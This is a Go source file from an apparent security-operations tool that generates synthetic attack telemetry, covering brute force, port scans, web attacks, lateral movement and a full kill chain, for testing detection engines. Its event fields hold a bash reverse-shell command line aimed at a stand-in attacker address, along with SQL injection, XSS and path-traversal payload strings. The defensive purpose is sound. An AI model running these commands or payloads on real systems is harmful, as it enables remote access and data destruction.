// Package simulate generates synthetic attack telemetry for exercising the
// detection and correlation engines. Scenarios model single techniques or
// a full kill chain, optionally mixed with benign background traffic.
package simulate

import (
	"fmt"
	"sort"
	"time"

	"github.com/brianvoe/gofakeit/v6"
	"github.com/google/uuid"
	"go.uber.org/zap"

	"socforge/core"
	"socforge/metrics"
)

// Scenario identifies an attack playbook
type Scenario string

const (
	ScenarioFullAttackChain Scenario = "full_attack_chain"
	ScenarioSSHBruteForce   Scenario = "ssh_brute_force"
	ScenarioPortScan        Scenario = "port_scan"
	ScenarioWebAttack       Scenario = "web_attack"
	ScenarioLateralMovement Scenario = "lateral_movement"
)

// Intensity scales event volume per scenario
type Intensity string

const (
	IntensityLow    Intensity = "low"
	IntensityMedium Intensity = "medium"
	IntensityHigh   Intensity = "high"
)

var intensityMultiplier = map[Intensity]int{
	IntensityLow:    1,
	IntensityMedium: 2,
	IntensityHigh:   4,
}

// Synthetic network pools. Documentation ranges (RFC 5737) for external
// traffic so generated data never references real hosts.
var (
	internalIPs = ipRange("10.0.1.%d", 10, 60)
	externalIPs = append(ipRange("203.0.113.%d", 1, 20), ipRange("198.51.100.%d", 1, 10)...)
	attackerIPs = []string{"45.33.32.156", "185.220.101.42", "91.219.236.222", "192.241.193.115"}
	c2Servers   = []string{"198.51.100.50", "203.0.113.99", "91.219.236.200"}

	commonPorts   = []int{22, 80, 443, 8080, 3306, 5432, 6379, 8443, 9200}
	uncommonPorts = []int{4444, 5555, 1337, 31337, 9001, 8888, 6667, 12345}
	usernames     = []string{"admin", "root", "user", "deploy", "jenkins", "postgres", "www-data"}
	hostnames     = []string{"web-srv-1", "web-srv-2", "web-srv-3", "web-srv-4", "db-srv-1", "db-srv-2", "jump-host", "bastion-01"}
	shellBinaries = []string{"/bin/sh", "/bin/bash", "nc", "ncat"}
)

func ipRange(format string, from, to int) []string {
	out := make([]string, 0, to-from)
	for i := from; i < to; i++ {
		out = append(out, fmt.Sprintf(format, i))
	}
	return out
}

type benignTemplate struct {
	eventType string
	action    string
}

var benignTemplates = []benignTemplate{
	{"http_request", "allowed"},
	{"dns_query", "success"},
	{"ssh_login_success", "success"},
	{"file_access", "allowed"},
	{"process_execution", "success"},
}

// Options controls a single generation run
type Options struct {
	Intensity     Intensity
	Duration      time.Duration
	BaseTime      time.Time
	IncludeBenign bool
}

// Generator produces synthetic event batches. Seeding the generator makes
// runs reproducible, which the replay tooling and tests rely on.
type Generator struct {
	faker  *gofakeit.Faker
	logger *zap.SugaredLogger
	newID  func() string
}

// Option configures a Generator
type Option func(*Generator)

// WithSeed makes generation deterministic
func WithSeed(seed int64) Option {
	return func(g *Generator) { g.faker = gofakeit.New(seed) }
}

// WithLogger sets the generator logger
func WithLogger(logger *zap.SugaredLogger) Option {
	return func(g *Generator) { g.logger = logger }
}

// WithIDGenerator overrides event ID generation
func WithIDGenerator(fn func() string) Option {
	return func(g *Generator) { g.newID = fn }
}

// NewGenerator creates a simulation generator
func NewGenerator(opts ...Option) *Generator {
	g := &Generator{
		faker:  gofakeit.New(0),
		logger: zap.NewNop().Sugar(),
		newID:  uuid.NewString,
	}
	for _, opt := range opts {
		opt(g)
	}
	return g
}

// Generate produces the event batch for one scenario run, sorted by
// timestamp ascending as the detection engine expects.
func (g *Generator) Generate(scenario Scenario, opts Options) ([]*core.Event, error) {
	if opts.BaseTime.IsZero() {
		opts.BaseTime = time.Now().UTC()
	}
	if opts.Duration <= 0 {
		opts.Duration = 5 * time.Minute
	}
	multiplier, ok := intensityMultiplier[opts.Intensity]
	if !ok {
		multiplier = intensityMultiplier[IntensityMedium]
	}

	simID := g.newID()
	var events []*core.Event

	if opts.IncludeBenign {
		events = append(events, g.benignTraffic(simID, opts.BaseTime, opts.Duration, multiplier*5)...)
	}

	switch scenario {
	case ScenarioSSHBruteForce:
		events = append(events, g.sshBruteForce(simID, opts.BaseTime, opts.Duration, multiplier)...)
	case ScenarioPortScan:
		events = append(events, g.portScan(simID, opts.BaseTime, opts.Duration, multiplier)...)
	case ScenarioWebAttack:
		events = append(events, g.webAttack(simID, opts.BaseTime, opts.Duration, multiplier)...)
	case ScenarioLateralMovement:
		events = append(events, g.lateralMovement(simID, opts.BaseTime, opts.Duration, multiplier)...)
	case ScenarioFullAttackChain:
		events = append(events, g.fullAttackChain(simID, opts.BaseTime, opts.Duration, multiplier)...)
	default:
		return nil, fmt.Errorf("unknown scenario %q", scenario)
	}

	sort.SliceStable(events, func(i, j int) bool {
		if events[i].Timestamp.Equal(events[j].Timestamp) {
			return events[i].ID < events[j].ID
		}
		return events[i].Timestamp.Before(events[j].Timestamp)
	})

	metrics.SimulationEventsGenerated.WithLabelValues(string(scenario)).Add(float64(len(events)))
	g.logger.Infow("simulation complete",
		"simulation_id", simID, "scenario", scenario, "events", len(events))

	return events, nil
}

func (g *Generator) newEvent(simID string, ts time.Time, eventType string, severity core.Severity) *core.Event {
	return &core.Event{
		ID:           g.newID(),
		Timestamp:    ts,
		EventType:    eventType,
		Severity:     severity,
		SimulationID: simID,
		Metadata:     make(map[string]interface{}),
	}
}

func (g *Generator) randomTS(base time.Time, window time.Duration) time.Time {
	if window <= 0 {
		return base
	}
	return base.Add(time.Duration(g.faker.Number(0, int(window.Seconds()))) * time.Second)
}

func (g *Generator) pick(pool []string) string {
	return pool[g.faker.Number(0, len(pool)-1)]
}

func (g *Generator) pickPort(pool []int) int {
	return pool[g.faker.Number(0, len(pool)-1)]
}

func (g *Generator) ephemeralPort() int {
	return g.faker.Number(40000, 65535)
}

func (g *Generator) benignTraffic(simID string, base time.Time, duration time.Duration, count int) []*core.Event {
	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		tmpl := benignTemplates[g.faker.Number(0, len(benignTemplates)-1)]
		src := g.pick(internalIPs)
		dst := g.pick(append(append([]string{}, internalIPs...), externalIPs...))

		ev := g.newEvent(simID, g.randomTS(base, duration), tmpl.eventType, core.SeverityInfo)
		ev.SourceIP = src
		ev.SourcePort = g.faker.Number(30000, 65535)
		ev.DestIP = dst
		ev.DestPort = g.pickPort(commonPorts)
		ev.Protocol = g.pick([]string{"TCP", "UDP", "HTTP", "HTTPS"})
		ev.Action = tmpl.action
		ev.Hostname = g.pick(hostnames)
		ev.UserAccount = g.pick(usernames)
		ev.Message = fmt.Sprintf("Benign %s from %s to %s", tmpl.eventType, src, dst)
		events = append(events, ev)
	}
	return events
}

func (g *Generator) sshBruteForce(simID string, base time.Time, duration time.Duration, multiplier int) []*core.Event {
	attacker := g.pick(attackerIPs)
	target := g.pick(internalIPs[:5])
	window := duration
	if window > time.Minute {
		window = time.Minute
	}

	count := 15 * multiplier
	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		ev := g.newEvent(simID, g.randomTS(base, window), "ssh_login_failed", core.SeverityMedium)
		ev.SourceIP = attacker
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = target
		ev.DestPort = 22
		ev.Protocol = "TCP"
		ev.Action = "failed"
		ev.UserAccount = g.pick(usernames)
		ev.Hostname = g.pick(hostnames)
		ev.Message = fmt.Sprintf("Failed SSH: %s to %s:22", attacker, target)
		events = append(events, ev)
	}
	return events
}

func (g *Generator) portScan(simID string, base time.Time, duration time.Duration, multiplier int) []*core.Event {
	attacker := g.pick(attackerIPs)
	target := g.pick(internalIPs[:5])
	window := duration
	if window > 30*time.Second {
		window = 30 * time.Second
	}

	count := 30 * multiplier
	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		port := g.faker.Number(1, 65535)
		ev := g.newEvent(simID, g.randomTS(base, window), "port_scan", core.SeverityLow)
		ev.SourceIP = attacker
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = target
		ev.DestPort = port
		ev.Protocol = "TCP"
		ev.Action = g.blockOrAllow(0.6)
		ev.Message = fmt.Sprintf("Port scan: %s to %s:%d", attacker, target, port)
		events = append(events, ev)
	}
	return events
}

type webPayload struct {
	attackType string
	payload    string
	rawLog     string
}

var webPayloads = []webPayload{
	{"sql_injection", "' OR 1=1 --", "GET /login?user=' OR 1=1 --"},
	{"sql_injection", "'; DROP TABLE users; --", `POST /api/search body={"q": "union select * from users"}`},
	{"xss_attempt", "<script>alert('xss')</script>", "GET /search?q=<script>alert('xss')</script>"},
	{"path_traversal", "../../etc/passwd", "GET /files?path=../../etc/passwd"},
	{"web_exploit", "eval(base64_decode(...))", "POST /upload body contains eval( in payload"},
}

func (g *Generator) webAttack(simID string, base time.Time, duration time.Duration, multiplier int) []*core.Event {
	attacker := g.pick(attackerIPs)
	target := g.pick(internalIPs[:3])

	count := 6 * multiplier
	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		payload := webPayloads[g.faker.Number(0, len(webPayloads)-1)]
		ev := g.newEvent(simID, g.randomTS(base, duration), "web_exploit", core.SeverityHigh)
		ev.SourceIP = attacker
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = target
		ev.DestPort = g.pickPort([]int{80, 443, 8080})
		ev.Protocol = "HTTP"
		ev.Action = g.blockOrAllow(0.5)
		ev.RawLog = payload.rawLog
		ev.Message = fmt.Sprintf("Web attack (%s): %s to %s", payload.attackType, attacker, target)
		ev.Metadata["payload"] = payload.payload
		ev.Metadata["attack_type"] = payload.attackType
		ev.Metadata["user_agent"] = g.faker.UserAgent()
		events = append(events, ev)
	}
	return events
}

func (g *Generator) lateralMovement(simID string, base time.Time, duration time.Duration, multiplier int) []*core.Event {
	compromised := g.pick(internalIPs[:5])
	targetCount := multiplier + 2
	if targetCount > 5 {
		targetCount = 5
	}

	events := make([]*core.Event, 0, targetCount)
	for i := 0; i < targetCount; i++ {
		target := g.pick(internalIPs[5:20])
		ev := g.newEvent(simID, g.randomTS(base, duration), "lateral_movement", core.SeverityHigh)
		ev.SourceIP = compromised
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = target
		ev.DestPort = g.pickPort([]int{22, 3389, 5985})
		ev.Protocol = "TCP"
		ev.Action = "success"
		ev.UserAccount = "root"
		ev.Hostname = g.pick(hostnames)
		ev.Message = fmt.Sprintf("Lateral: %s to %s", compromised, target)
		events = append(events, ev)
	}
	return events
}

// fullAttackChain walks the complete kill chain: recon, brute force,
// reverse shell, C2 beaconing, lateral movement, exfiltration.
func (g *Generator) fullAttackChain(simID string, base time.Time, duration time.Duration, multiplier int) []*core.Event {
	attacker := g.pick(attackerIPs)
	target := g.pick(internalIPs[:5])
	c2 := g.pick(c2Servers)
	phase := duration / 6

	var events []*core.Event

	// Phase 1: reconnaissance via port scanning
	for i := 0; i < 25*multiplier; i++ {
		port := g.faker.Number(1, 1024)
		ev := g.newEvent(simID, g.randomTS(base, phase), "port_scan", core.SeverityLow)
		ev.SourceIP = attacker
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = target
		ev.DestPort = port
		ev.Protocol = "TCP"
		ev.Action = g.blockOrAllow(0.7)
		ev.Message = fmt.Sprintf("Port scan: %s to %s:%d", attacker, target, port)
		events = append(events, ev)
	}

	// Phase 2: SSH brute force, ending in a successful login
	phase2 := base.Add(phase)
	for i := 0; i < 8*multiplier; i++ {
		ev := g.newEvent(simID, g.randomTS(phase2, phase), "ssh_login_failed", core.SeverityMedium)
		ev.SourceIP = attacker
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = target
		ev.DestPort = 22
		ev.Protocol = "TCP"
		ev.Action = "failed"
		ev.UserAccount = g.pick(usernames)
		ev.Hostname = g.pick(hostnames)
		ev.Message = fmt.Sprintf("Failed SSH login attempt from %s to %s", attacker, target)
		events = append(events, ev)
	}
	login := g.newEvent(simID, phase2.Add(phase-2*time.Second), "ssh_login_success", core.SeverityMedium)
	login.SourceIP = attacker
	login.DestIP = target
	login.DestPort = 22
	login.Protocol = "TCP"
	login.Action = "success"
	login.UserAccount = "root"
	login.Hostname = g.pick(hostnames)
	login.Message = fmt.Sprintf("Successful SSH login from %s as root", attacker)
	events = append(events, login)

	// Phase 3: reverse shell from the compromised host
	phase3 := base.Add(2 * phase)
	shellPort := g.pickPort(uncommonPorts)
	shell := g.newEvent(simID, g.randomTS(phase3, phase/2), "reverse_shell", core.SeverityCritical)
	shell.SourceIP = target
	shell.SourcePort = g.ephemeralPort()
	shell.DestIP = attacker
	shell.DestPort = shellPort
	shell.Protocol = "TCP"
	shell.Action = "established"
	shell.ProcessName = g.pick(shellBinaries)
	shell.CommandLine = fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", attacker, shellPort)
	shell.Hostname = g.pick(hostnames)
	shell.Message = fmt.Sprintf("Reverse shell established from %s to %s:%d", target, attacker, shellPort)
	events = append(events, shell)

	// Phase 4: C2 beaconing at a regular interval with jitter
	phase4 := base.Add(3 * phase)
	interval := g.faker.Number(15, 45)
	for i := 0; i < 6*multiplier; i++ {
		jitter := g.faker.Float64Range(-0.2, 0.2) * float64(interval)
		ts := phase4.Add(time.Duration(float64(i*interval)+jitter) * time.Second)
		ev := g.newEvent(simID, ts, "c2_beacon", core.SeverityHigh)
		ev.SourceIP = target
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = c2
		ev.DestPort = 443
		ev.Protocol = "HTTPS"
		ev.Action = "allowed"
		ev.Hostname = g.pick(hostnames)
		ev.Message = fmt.Sprintf("C2 beacon: %s to %s:443 (interval ~%ds)", target, c2, interval)
		ev.Metadata["beacon_interval"] = interval
		events = append(events, ev)
	}

	// Phase 5: lateral movement to further internal hosts
	phase5 := base.Add(4 * phase)
	lateralTargets := multiplier + 1
	if lateralTargets > 3 {
		lateralTargets = 3
	}
	for i := 0; i < lateralTargets; i++ {
		lt := g.pick(internalIPs[5:15])
		ev := g.newEvent(simID, g.randomTS(phase5, phase), "lateral_movement", core.SeverityHigh)
		ev.SourceIP = target
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = lt
		ev.DestPort = 22
		ev.Protocol = "TCP"
		ev.Action = "success"
		ev.UserAccount = "root"
		ev.Hostname = g.pick(hostnames)
		ev.Message = fmt.Sprintf("Lateral movement: %s to %s via SSH", target, lt)
		events = append(events, ev)
	}

	// Phase 6: data exfiltration over the C2 channel
	phase6 := base.Add(5 * phase)
	for i := 0; i < 3*multiplier; i++ {
		bytes := g.faker.Number(5_000_000, 500_000_000)
		ev := g.newEvent(simID, g.randomTS(phase6, phase), "data_exfiltration", core.SeverityCritical)
		ev.SourceIP = target
		ev.SourcePort = g.ephemeralPort()
		ev.DestIP = c2
		ev.DestPort = 443
		ev.Protocol = "HTTPS"
		ev.Action = "allowed"
		ev.Hostname = g.pick(hostnames)
		ev.Message = fmt.Sprintf("Suspicious data transfer: %s to %s (%dMB)", target, c2, bytes/1_000_000)
		ev.Metadata["bytes_transferred"] = bytes
		events = append(events, ev)
	}

	return events
}

func (g *Generator) blockOrAllow(allowedRatio float64) string {
	if g.faker.Float64Range(0, 1) > allowedRatio {
		return "blocked"
	}
	return "allowed"
}

// Descriptor describes a scenario for tooling and UIs
type Descriptor struct {
	ID              Scenario              `json:"id"`
	Name            string                `json:"name"`
	Description     string                `json:"description"`
	Phases          []core.KillChainPhase `json:"phases"`
	EstimatedEvents string                `json:"estimated_events"`
	Severity        core.Severity         `json:"severity"`
}

// AvailableScenarios lists every scenario the generator supports
func AvailableScenarios() []Descriptor {
	return []Descriptor{
		{
			ID:              ScenarioFullAttackChain,
			Name:            "Full Attack Chain",
			Description:     "Complete kill chain: recon, brute force, reverse shell, C2, lateral movement, exfiltration",
			Phases:          core.KillChainPhases(),
			EstimatedEvents: "80-200",
			Severity:        core.SeverityCritical,
		},
		{
			ID:              ScenarioSSHBruteForce,
			Name:            "SSH Brute Force",
			Description:     "Multiple failed SSH login attempts from a single attacker IP",
			Phases:          []core.KillChainPhase{core.PhaseInitialAccess},
			EstimatedEvents: "15-60",
			Severity:        core.SeverityHigh,
		},
		{
			ID:              ScenarioPortScan,
			Name:            "Port Scan",
			Description:     "Network reconnaissance via port scanning activity",
			Phases:          []core.KillChainPhase{core.PhaseReconnaissance},
			EstimatedEvents: "30-120",
			Severity:        core.SeverityMedium,
		},
		{
			ID:              ScenarioWebAttack,
			Name:            "Web Application Attack",
			Description:     "SQL injection, XSS, and path traversal attempts",
			Phases:          []core.KillChainPhase{core.PhaseInitialAccess},
			EstimatedEvents: "12-50",
			Severity:        core.SeverityHigh,
		},
		{
			ID:              ScenarioLateralMovement,
			Name:            "Lateral Movement",
			Description:     "Internal pivoting from a compromised host to other systems",
			Phases:          []core.KillChainPhase{core.PhaseLateralMovement},
			EstimatedEvents: "5-20",
			Severity:        core.SeverityHigh,
		},
	}
}
